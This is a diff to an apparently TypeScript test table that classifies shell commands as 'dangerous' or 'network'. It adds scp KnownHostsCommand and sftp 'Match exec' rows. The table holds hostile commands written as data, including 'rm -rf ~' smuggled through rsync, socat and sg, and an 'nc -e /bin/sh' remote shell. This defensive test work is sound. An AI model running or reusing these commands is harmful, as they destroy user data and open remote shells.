@@ -29,6 +29,8 @@ const ROWS: Array<[string, CommandClass, string?]> = [
   ["rsync -e 'sh -c \"rm -rf ~\"' x h:y", 'dangerous', 'outside the workspace'],
   ["rsync -e 'ssh -p 22' -a src/ host:dst/", 'network'],
   ['scp -o ProxyCommand=x a h:b', 'dangerous', 'ProxyCommand'],
+  ['scp -o KnownHostsCommand=x a h:b', 'dangerous', 'ProxyCommand'],
+  ['sftp -o "Match exec \"touch x\"" h', 'dangerous', 'ProxyCommand'],
   ["socat - EXEC:'rm -rf ~'", 'dangerous', 'local program'],
   ['nc -e /bin/sh h 1', 'dangerous', 'local program'],
   ["sg grp 'rm -rf ~'", 'dangerous', 'outside the workspace'],
